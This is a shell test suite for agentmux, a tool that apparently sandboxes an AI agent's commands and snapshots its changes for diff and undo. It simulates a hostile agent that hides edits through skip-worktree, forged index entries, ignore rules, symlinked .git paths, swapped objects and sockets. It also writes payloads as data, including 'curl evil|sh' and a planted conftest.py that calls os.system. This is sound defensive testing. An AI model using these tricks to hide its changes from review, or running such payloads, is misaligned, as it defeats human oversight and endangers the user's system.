#!/bin/sh
# Snapshots against a hostile jailed command (issue 14, section 1): what
# it does to .git cannot write outside agentmux's own repository, hide a
# change, or make undo write its bytes; real modes and the user's umask;
# the ignore rules as they were at the start; FIFOs, devices and links
# planted where agentmux reads a file. As root and as an unprivileged
# user made for the test.
set -u
. "$(dirname "$0")/lib.sh"

last_session() {
	"$AMX" sessions --json | python3 -c 'import json, sys; print(json.load(sys.stdin)[0]["id"])'
}

# agentmux's own repository for the project, in its data dir.
own() {
	ls -d "$XDG_DATA_HOME"/agentmux/shadow/proj-*/ 2>/dev/null | head -n 1
}

# Every object of the own repository made loose: a first snapshot streams
# its objects into a pack, which a background git compresses after the
# session (waited for here, 2 minutes at most).
own_unpack() {
	g=$(own)
	i=0
	while [ $i -lt 600 ] && for p in /proc/[0-9]*; do readlink "$p/cwd"; done 2>/dev/null |
	    grep -q "^${g%/}"; do
		sleep 0.2
		i=$((i + 1))
	done
	for p in "$g"objects/pack/*.pack; do
		[ -f "$p" ] || continue
		mv "$p" "$T/own.pack" && rm -f "${p%.pack}".*
		GIT_DIR=$g git unpack-objects -q <"$T/own.pack" || bad "cannot unpack $p"
		rm -f "$T/own.pack"
	done
}

# A fresh project: a tracked file, a subdir, committed.
fresh() {
	rm -rf "$P"
	mkdir -p "$P"
	(cd "$P" && git init -q . && git config user.email t@x &&
	    git config user.name t && printf 'int main;\n' >main.c &&
	    mkdir -p src && printf 'one\n' >src/a.txt && git add -A &&
	    git commit -qm init) || exit 1
}

# .git/objects/XX replaced by links to a host dir: nothing is written there.
objects_symlinked() {
	fresh
	mkdir -p "$T/outside-objects"
	jrun -- sh -c "for x in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do
	    for y in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do
	    [ -e .git/objects/\$x\$y ] || ln -s '$T/outside-objects' .git/objects/\$x\$y; done; done
	    echo 'bytes of the agent' >new.txt; echo changed >src/a.txt"
	[ "$RC" = 0 ] || bad "objects: the command failed: $OUT"
	"$AMX" snapshot -C "$P" >/dev/null 2>&1 || bad "objects: a snapshot after the session failed"
	"$AMX" diff last >/dev/null 2>&1 || bad "objects: diff failed"
	[ -z "$(ls -A "$T/outside-objects")" ] && ok ||
	    bad "objects: snapshot objects were written into the linked host dir: $(ls "$T/outside-objects" | head -3)"
	out=$("$AMX" undo last 2>&1)
	[ ! -e "$P/new.txt" ] && [ "$(cat "$P/src/a.txt")" = one ] && ok ||
	    bad "objects: undo did not restore the tree: $out"
	[ -z "$(ls -A "$T/outside-objects")" ] && ok ||
	    bad "objects: undo wrote into the linked host dir"
}

# Reflogs planted as links to a host file: nothing is appended to it.
reflog_symlinked() {
	fresh
	printf 'my bashrc\n' >"$T/bashrc"
	cp "$T/bashrc" "$T/bashrc.orig"
	n=$(( $(last_session 2>/dev/null || echo 0) + 1 ))
	jrun -- sh -c "mkdir -p .git/logs/refs/agentmux/sessions .git/logs/refs/agentmux/snaps;
	    for i in \$(seq 1 $((n + 5))); do ln -sf '$T/bashrc' .git/logs/refs/agentmux/sessions/\$i; done;
	    echo x >>main.c"
	"$AMX" snapshot -C "$P" >/dev/null 2>&1
	"$AMX" undo last >/dev/null 2>&1
	cmp -s "$T/bashrc" "$T/bashrc.orig" && ok ||
	    bad "reflog: a line was appended to the linked host file: $(tail -n 1 "$T/bashrc")"
}

# An edit hidden from the user's index (skip-worktree, or stat data forged
# to match): diff shows it and undo puts the file back.
hidden_edit() {
	fresh
	jrun -- sh -c 'printf "int evil;\n" >main.c && git update-index --skip-worktree main.c &&
	    printf "two\n" >src/a.txt && touch -d "2020-01-01" src/a.txt &&
	    git update-index --cacheinfo 100644,$(git hash-object src/a.txt),src/a.txt &&
	    touch -d "2001-01-01" src/a.txt'
	out=$("$AMX" diff last 2>&1)
	case $out in
	*"+int evil;"*) ok ;;
	*) bad "skip-worktree: diff does not show the edit: $out" ;;
	esac
	case $out in
	*"+two"*) ok ;;
	*) bad "forged index entry: diff does not show the edit: $out" ;;
	esac
	out=$("$AMX" undo last 2>&1)
	[ "$(cat "$P/main.c")" = "int main;" ] && [ "$(cat "$P/src/a.txt")" = one ] && ok ||
	    bad "hidden edits: undo did not restore them: $out"
}

# The loose objects a snapshot needs, overwritten with the agent's bytes
# or deleted in .git: undo writes exactly what was snapshotted.
objects_swapped() {
	fresh
	(cd "$P" && printf 'secret plan\n' >plan.txt) || exit 1
	jrun -- sh -c 'b=$(git hash-object plan.txt); e=$(printf "evil\n" | git hash-object -w --stdin);
	    f=.git/objects/$(echo $b | cut -c1-2)/$(echo $b | cut -c3-);
	    g=.git/objects/$(echo $e | cut -c1-2)/$(echo $e | cut -c3-);
	    mkdir -p $(dirname $f); rm -f $f; cp $g $f;
	    echo evil >plan.txt; echo more >>main.c'
	out=$("$AMX" undo last 2>&1)
	[ "$(cat "$P/plan.txt")" = "secret plan" ] && ok ||
	    bad "swapped object: undo wrote '$(cat "$P/plan.txt")': $out"
	jrun -- sh -c 'rm -rf .git/objects/??; echo gone >main.c'
	out=$("$AMX" undo last 2>&1)
	[ "$(cat "$P/main.c")" = "int main;" ] && ok || bad "deleted objects: undo failed: $out"
	(cd "$P" && git status >/dev/null 2>&1 || true)
}

# An object damaged in agentmux's own repository (a disk fault): undo
# refuses, says which, and touches nothing.
own_object_damaged() {
	fresh
	jrun -- sh -c 'printf "agent\n" >src/a.txt'
	start=$("$AMX" snapshots last --json | python3 -c 'import json, sys; print(json.load(sys.stdin)[0]["tree"])')
	b=$(GIT_DIR=$(own) git rev-parse "$start:src/a.txt")
	own_unpack
	f="$(own)objects/$(echo "$b" | cut -c1-2)/$(echo "$b" | cut -c3-)"
	if [ ! -f "$f" ]; then
		bad "damaged: the object is not loose: $f"
		return
	fi
	chmod u+w "$f"
	printf 'not a git object' >"$f"
	out=$("$AMX" undo last 2>&1)
	rc=$?
	case "$rc:$out" in
	1:*"cannot be restored, so nothing was"*"$b"*"src/a.txt"*) ok ;;
	*) bad "damaged own object: exit $rc: $out" ;;
	esac
	[ "$(cat "$P/src/a.txt")" = agent ] && ok || bad "damaged own object: undo changed the file"
	rm -f "$f"
	out=$("$AMX" undo last 2>&1)
	case $out in
	*"is missing"*) ok ;;
	*) bad "missing own object: $out" ;;
	esac
}

# Real modes: a 0600 .env and a 0700 dir come back as they were, a change
# of mode alone shows in diff, and what the agent makes has the user's umask.
modes() {
	fresh
	(cd "$P" && printf 'KEY=1\n' >.env && chmod 600 .env && mkdir -p keys &&
	    chmod 700 keys && printf 'k\n' >keys/k && chmod 600 keys/k) || exit 1
	jrun -- sh -c 'chmod 644 .env && chmod 755 keys && printf "KEY=2\n" >.env &&
	    chmod 666 keys/k && echo n >made && mkdir madedir'
	[ "$(stat -c %a "$P/made")" = 644 ] && [ "$(stat -c %a "$P/madedir")" = 755 ] && ok ||
	    bad "umask: the agent's files are $(stat -c %a "$P/made") and $(stat -c %a "$P/madedir"), not 644 and 755"
	out=$("$AMX" diff last 2>&1)
	case $out in
	*"a/keys/k b/keys/k"*"old mode 100600"*"new mode 100666"*) ok ;;
	*) bad "modes: diff does not show a change of mode alone: $out" ;;
	esac
	out=$("$AMX" undo last 2>&1)
	[ "$(stat -c %a "$P/.env")" = 600 ] && [ "$(cat "$P/.env")" = KEY=1 ] &&
	    [ "$(stat -c %a "$P/keys")" = 700 ] && [ "$(stat -c %a "$P/keys/k")" = 600 ] && ok ||
	    bad "modes: after undo .env $(stat -c %a "$P/.env"), keys $(stat -c %a "$P/keys"), keys/k $(stat -c %a "$P/keys/k"): $out"
	# Removed by the agent, made again by undo: its mode, and the umask's.
	jrun -- sh -c 'rm -rf .env keys src'
	out=$("$AMX" undo last 2>&1)
	[ "$(stat -c %a "$P/.env")" = 600 ] && [ "$(stat -c %a "$P/keys")" = 700 ] &&
	    [ "$(stat -c %a "$P/src")" = 755 ] && [ "$(stat -c %a "$P/src/a.txt")" = 644 ] && ok ||
	    bad "modes: made again by undo: .env $(stat -c %a "$P/.env" 2>&1), keys $(stat -c %a "$P/keys" 2>&1), src/a.txt $(stat -c %a "$P/src/a.txt" 2>&1): $out"
}

# Ignore rules the agent adds hide nothing: a .gitignore, info/exclude, an attribute.
frozen_rules() {
	fresh
	(cd "$P" && printf 'build/\n' >.gitignore && git add .gitignore &&
	    git commit -qm ignore) || exit 1
	jrun -- sh -c 'printf "secret*\n" >>.gitignore && echo s >secret.txt &&
	    mkdir -p sub && printf "*\n" >sub/.gitignore && echo h >sub/hidden &&
	    { echo "evil/" >>.git/info/exclude; true; } 2>/dev/null &&
	    mkdir evil && echo e >evil/x &&
	    printf "*.c -diff\n" >.gitattributes && printf "int evil;\n" >main.c &&
	    mkdir -p build && echo o >build/out'
	out=$("$AMX" diff last --stat 2>&1)
	for f in secret.txt sub/hidden evil/x; do
		case $out in
		*"$f"*) ok ;;
		*) bad "frozen rules: $f is hidden from diff: $out" ;;
		esac
	done
	case $out in *build/out*) bad "frozen rules: an ignored file shows in diff" ;; *) ok ;; esac
	out=$("$AMX" diff last 2>&1)
	case $out in
	*"+int evil;"*) ok ;;
	*) bad "frozen rules: an attribute hid main.c's content: $out" ;;
	esac
	out=$("$AMX" undo last 2>&1)
	[ ! -e "$P/secret.txt" ] && [ ! -e "$P/sub/hidden" ] && [ ! -e "$P/evil/x" ] &&
	    [ "$(cat "$P/main.c")" = "int main;" ] && [ -e "$P/build/out" ] && ok ||
	    bad "frozen rules: undo left the agent's files or removed an ignored one: $out"
}

# Prints how many times FILE was opened while the command after it ran
# (inotify through ctypes: nothing to install).
opens_during() {
	python3 - "$@" <<'PY'
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_NONBLOCK)
if fd < 0 or libc.inotify_add_watch(fd, sys.argv[1].encode(), 0x20) < 0:
    sys.exit("cannot watch " + sys.argv[1])
subprocess.run(sys.argv[2:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
n = 0
while True:
    try:
        b = os.read(fd, 4096)
    except BlockingIOError:
        break
    i = 0
    while i < len(b):
        n += 1
        i += 16 + int.from_bytes(b[i + 12:i + 16], "little")
print(n)
PY
}

# A file the session made is hashed once, by its end snapshot: a diff or
# snapshot later, in another process, keeps its stat data (a big or sparse
# file cost the user its whole hashing again at each look).
frozen_kept() {
	fresh
	# (two seconds before the end: a file as new as the index is racily
	# clean, and git reads it again whatever agentmux does)
	jrun -- sh -c 'head -c 4194304 /dev/zero >made.bin && echo x >>main.c && sleep 2'
	[ "$RC" = 0 ] || bad "frozen kept: the command failed: $OUT"
	n=$(opens_during "$P/made.bin" "$AMX" diff last)
	[ "$n" = 0 ] && ok || bad "frozen kept: diff read the session's unchanged file again ($n opens)"
	out=$("$AMX" diff last --stat 2>&1)
	case $out in
	*made.bin*) ok ;;
	*) bad "frozen kept: the session's file is missing from diff: $out" ;;
	esac
	rm "$P/made.bin"
	out=$("$AMX" diff last --stat 2>&1)
	case $out in
	*made.bin*) bad "frozen kept: a file deleted after the session still shows: $out" ;;
	*) ok ;;
	esac
}

# FIFOs and devices where a file is expected: none can be made in the
# project, and one there (made on the host) is never waited on.
planted() {
	fresh
	# The kernel's Landlock ABI (landlock_create_ruleset with its version flag).
	abi=$(python3 -c 'import ctypes; print(max(0, ctypes.CDLL(None).syscall(444, None, 0, 1)))')
	# (.git/objects is an overlay with a Landlock rule of its own, below the project's.)
	jrun -- sh -c 'mkfifo fifo 2>/dev/null && echo MADE; mkfifo sub.fifo 2>/dev/null && echo MADE;
	    [ -d .git/objects/info ] && mkfifo .git/objects/info/alternates.fifo 2>/dev/null && echo MADE;
	    mkfifo /dev/shm/ok-here && echo SHM-OK'
	case "$abi:$OUT" in
	0:*) echo "SKIP [$WHO] no FIFO in the project: the kernel has no Landlock" ;;
	*MADE*) bad "planted: a FIFO was made in the project (Landlock ABI $abi)" ;;
	*SHM-OK*) ok ;;
	*) bad "planted: a FIFO could not even be made in /dev/shm: $OUT" ;;
	esac
	# Made on the host (as if there before): agentmux reads none of them.
	mkfifo "$P/.git/info/exclude.fifo" "$P/pipe"
	mv "$P/.git/info/exclude.fifo" "$P/.git/info/exclude"
	rm -f "$P/.git/HEAD"
	mkfifo "$P/.git/HEAD"
	ln -s "$T/outside/secret.txt" "$P/.git/index.lnk"
	rm -f "$P/.git/index"
	mv "$P/.git/index.lnk" "$P/.git/index"
	if [ "$(id -u)" = 0 ]; then
		mknod "$P/zero" c 1 5
	fi
	out=$(timeout 60 "$AMX" snapshot -C "$P" 2>&1)
	rc=$?
	[ "$rc" = 0 ] && ok || bad "planted: snapshot with FIFOs and links in .git: exit $rc: $out"
	out=$(timeout 60 "$AMX" undo last --dry-run 2>&1)
	rc=$?
	[ "$rc" = 0 ] && ok || bad "planted: undo --dry-run: exit $rc: $out"
	rm -f "$P/zero" "$P/pipe" "$P/.git/info/exclude" "$P/.git/HEAD" "$P/.git/index"
	printf 'ref: refs/heads/master\n' >"$P/.git/HEAD"
	# info/exclude as a link to a host file that ignores everything: not followed.
	printf '*\n' >"$T/outside/ignore-all"
	ln -s "$T/outside/ignore-all" "$P/.git/info/exclude"
	echo visible >"$P/visible.txt"
	c=$("$AMX" snapshot -C "$P" 2>&1 | sed -n 's/^snapshot [0-9]* of session [0-9]*: \([0-9a-f]*\),.*/\1/p')
	GIT_DIR=$(own) git ls-tree -r --name-only "$c" | grep -q '^visible.txt$' && ok ||
	    bad "planted: a linked info/exclude was followed (snapshot '$c')"
	rm -f "$P/.git/info/exclude"
}

# What the agent made unreadable to its owner (a file planted in a 0111
# dir, a dir of mode 0, chmod 000 on an edited file) shows in diff, and
# undo takes it all back. Only the unprivileged pass can fail here: root
# reads anything.
locked() {
	fresh
	(cd "$P" && mkdir tests && echo 'def test_a(): pass' >tests/test_a.py &&
	    git add tests && git commit -qm t) || exit 1
	jrun -- sh -c 'printf "import os\nos.system(\"id\")\n" >tests/conftest.py &&
	    chmod 0111 tests && mkdir z && echo p >z/p && chmod 0 z &&
	    echo evil >>main.c && chmod 000 main.c'
	[ "$RC" = 0 ] || bad "locked: the command failed: $OUT"
	out=$("$AMX" diff last 2>&1)
	for f in "b/tests/conftest.py" "b/z/p" "+evil"; do
		case $out in
		*"$f"*) ok ;;
		*) bad "locked: $f is hidden from diff: $out" ;;
		esac
	done
	[ "$(stat -c %a "$P/tests")" = 111 ] && [ "$(stat -c %a "$P/main.c")" = 0 ] &&
	    [ "$(stat -c %a "$P/z")" = 0 ] && ok ||
	    bad "locked: the snapshot left modes changed: tests $(stat -c %a "$P/tests"), z $(stat -c %a "$P/z"), main.c $(stat -c %a "$P/main.c")"
	out=$("$AMX" undo last 2>&1)
	[ ! -e "$P/tests/conftest.py" ] && [ ! -e "$P/z" ] &&
	    [ "$(cat "$P/main.c")" = 'int main;' ] && [ "$(stat -c %a "$P/tests")" = 755 ] &&
	    [ "$(stat -c %a "$P/main.c")" = 644 ] && ok ||
	    bad "locked: after undo: $(ls -la "$P" "$P/tests" 2>&1): $out"
	# Undone as undo says: all of it comes back, modes too.
	back=$(printf '%s\n' "$out" | sed -n "s/.*'agentmux \(undo [0-9]* --to [0-9]*\)' brings it back.*/\1/p")
	[ -n "$back" ] || bad "locked: undo does not say how to bring it back: $out"
	out=$("$AMX" $back 2>&1)
	[ "$(stat -c %a "$P/tests")" = 111 ] && [ "$(stat -c %a "$P/main.c")" = 0 ] &&
	    [ "$(stat -c %a "$P/z")" = 0 ] && ok ||
	    bad "locked: undo of the undo: tests $(stat -c %a "$P/tests"), z $(stat -c %a "$P/z" 2>&1), main.c $(stat -c %a "$P/main.c" 2>&1): $out"
	chmod -R u+rwx "$P" 2>/dev/null
	[ "$(cat "$P/tests/conftest.py" "$P/z/p" 2>&1)" = "$(printf 'import os\nos.system("id")\np')" ] &&
	    grep -q '^evil$' "$P/main.c" && ok ||
	    bad "locked: undo of the undo lost bytes: $(cat "$P/tests/conftest.py" "$P/z/p" "$P/main.c" 2>&1)"
}

# diff shows the real modes where git has its own (644, 755, no dirs):
# the project's dir, a dir made 0777, a new file made 0666, a new dir 0700.
mode_gaps() {
	fresh
	jrun -- sh -c 'chmod 0777 src . && echo n >new && chmod 0666 new &&
	    mkdir nd && chmod 0700 nd && echo q >nd/q && chmod 0600 nd/q && echo x >>main.c && chmod 0600 main.c'
	[ "$RC" = 0 ] || bad "mode gaps: the command failed: $OUT"
	out=$("$AMX" diff last 2>&1)
	for want in "a/. b/.
old mode 040755
new mode 040777" "a/src b/src
old mode 040755
new mode 040777" "a/new b/new
new file mode 100666" "a/nd/q b/nd/q
new file mode 100600" "a/nd b/nd
new dir mode 040700" "index *..* 100600"; do
		case $out in
		*$want*) ok ;;
		*) bad "mode gaps: diff does not say '$want': $out" ;;
		esac
	done
	case $out in *"new file mode 100644"*) bad "mode gaps: diff names git's 100644 for a new file: $out" ;; *) ok ;; esac
	out=$("$AMX" diff last --stat 2>&1)
	for want in " . | mode 755 => 777" " src | mode 755 => 777" " nd | new, mode 700"; do
		case $out in
		*"$want"*) ok ;;
		*) bad "mode gaps: diff --stat does not say '$want': $out" ;;
		esac
	done
	chmod 755 "$P"
}

# Dirs with no file beneath (git keeps none, issue 14 finding 5): an
# empty 0700 dir made 0777, one removed, a 0700 dir holding only an empty
# 0750 one emptied and opened, empty dirs made: diff says each, undo puts
# every dir back as it was, with its mode, and removes those made.
empty_dirs() {
	fresh
	(cd "$P" && mkdir -m 700 secrets cache priv && mkdir -m 750 priv/empty) || exit 1
	jrun -- sh -c 'chmod 777 secrets && rmdir cache priv/empty && chmod 755 priv &&
	    mkdir -p newempty/deeper'
	[ "$RC" = 0 ] || bad "empty dirs: the command failed: $OUT"
	out=$("$AMX" diff last 2>&1)
	for want in "a/secrets b/secrets
old mode 040700
new mode 040777" "a/cache b/cache
deleted dir mode 040700" "a/priv/empty b/priv/empty
deleted dir mode 040750" "a/newempty/deeper b/newempty/deeper
new dir mode 040755"; do
		case $out in
		*"$want"*) ok ;;
		*) bad "empty dirs: diff does not say '$want': $out" ;;
		esac
	done
	out=$("$AMX" undo last 2>&1)
	got=$(cd "$P" && stat -c '%n %a' secrets cache priv priv/empty 2>&1; ls -d newempty 2>&1)
	want="secrets 700
cache 700
priv 700
priv/empty 750
ls: cannot access 'newempty': No such file or directory"
	[ "$got" = "$want" ] && ok || bad "empty dirs: after undo: $got: $out"
}

# A file at a path longer than PATH_MAX (issue 14 finding 4): git cannot
# take it, so the end of the session and diff say so, naming its top dir,
# and undo removes that dir (made in the session) whole.
too_long() {
	fresh
	jrun -- /usr/bin/python3 -c '
import os
open("main.c", "a").write("evil\n")
for i in range(25):
    os.mkdir("d" * 200); os.chdir("d" * 200)
open("payload.sh", "w").write("curl evil|sh\n")'
	top=$(printf 'd%.0s' $(seq 200))
	case $OUT in
	*"paths longer than git can take"*"under $top:"*) ok ;;
	*) bad "too long: the end of the session does not say so: $OUT" ;;
	esac
	out=$("$AMX" diff last 2>&1)
	case $out in
	*"paths longer than git can take"*"under $top:"*) ok ;;
	*) bad "too long: diff does not say so: $out" ;;
	esac
	out=$("$AMX" undo last 2>&1)
	[ ! -e "$P/$top" ] && [ "$(cat "$P/main.c")" = "int main;" ] && ok ||
	    bad "too long: undo left $(ls "$P"): $out"
}

# A tracked file, the user's untracked draft (in the start snapshot only)
# and a tracked dir each replaced by a unix socket (r19 t10, t11): git add
# cannot add a socket, and kept the start's entries, so nothing was told,
# diff showed nothing, undo lost the draft and refused on the dir.
sockets() {
	fresh
	printf 'my notes\n' >"$P/draft.md"
	jrun -- /usr/bin/python3 -c '
import os, shutil, socket
for n in ("main.c", "draft.md"):
    os.unlink(n)
shutil.rmtree("src")
for n in ("main.c", "draft.md", "src"):
    socket.socket(socket.AF_UNIX).bind(n)'
	for f in main.c draft.md; do
		case $OUT in
		*"replaced by a socket, FIFO or device"*"$f"*) ok ;;
		*) bad "sockets: the end does not name $f: $OUT" ;;
		esac
	done
	out=$("$AMX" diff last 2>&1)
	for l in "-int main;" "-my notes"; do
		case $out in
		*"$l"*) ok ;;
		*) bad "sockets: diff does not show $l: $out" ;;
		esac
	done
	out=$("$AMX" undo last 2>&1)
	[ -f "$P/main.c" ] && [ "$(cat "$P/main.c")" = "int main;" ] &&
	    [ "$(cat "$P/draft.md")" = "my notes" ] &&
	    [ "$(cat "$P/src/a.txt")" = one ] && ok ||
	    bad "sockets: undo did not put the files back: $(ls -l "$P"): $out"
	case $out in
	*"removed the socket src, in the way"*) ok ;;
	*) bad "sockets: undo does not say it removed the socket: $out" ;;
	esac
}

# A saved file with a newline in its name replaced by a socket: git's
# complaint about it is split in two lines, yet the file counts as
# deleted, is told, and undo puts it back.
sockets_newline() {
	fresh
	nl='two
lines.md'
	printf 'my notes\n' >"$P/$nl"
	jrun -- /usr/bin/python3 -c '
import os, socket
n = "two\nlines.md"
os.unlink(n)
socket.socket(socket.AF_UNIX).bind(n)'
	case $OUT in
	*"replaced by a socket, FIFO or device"*"lines.md"*) ok ;;
	*) bad "sockets_newline: the end does not name the file: $OUT" ;;
	esac
	out=$("$AMX" undo last 2>&1)
	[ -f "$P/$nl" ] && [ "$(cat "$P/$nl")" = "my notes" ] && ok ||
	    bad "sockets_newline: undo did not put the file back: $(ls -l "$P"): $out"
}

# A split index (core.splitIndex: the user's git wrote it, its entries
# in a shared part beside it): a tracked file the ignore rules name is in
# the start snapshot, so the session's edit of it shows in diff and undo
# gives it back (found 2026-12-07: only the split part's names were
# read, and such a file was in no snapshot).
split_index() {
	fresh
	(cd "$P" && for i in $(seq 1 40); do echo "$i" >"src/f$i.c"; done && printf '*.o\n' >.gitignore &&
	    echo kept >keep.o && git add -A && git add -f keep.o && git commit -qm more &&
	    git config core.splitIndex true && git update-index --split-index && echo x >>src/f1.c &&
	    git add src/f1.c && grep -q link .git/index && ls .git/sharedindex.* >/dev/null) ||
	    { bad "split_index: git wrote no split index"; return; }
	jrun -- sh -c 'echo edited >keep.o'
	out=$("$AMX" diff last 2>&1)
	case $out in
	*"+edited"*) ok ;;
	*) bad "split index: diff does not show the edit of a tracked file the rules ignore: $out" ;;
	esac
	out=$("$AMX" undo last 2>&1)
	[ "$(cat "$P/keep.o")" = kept ] && ok || bad "split index: undo did not give keep.o back: $out"
}

checks() {
	split_index
	objects_symlinked
	reflog_symlinked
	hidden_edit
	objects_swapped
	own_object_damaged
	modes
	locked
	mode_gaps
	empty_dirs
	too_long
	sockets
	sockets_newline
	frozen_rules
	frozen_kept
	planted
}

jail_main "$@"
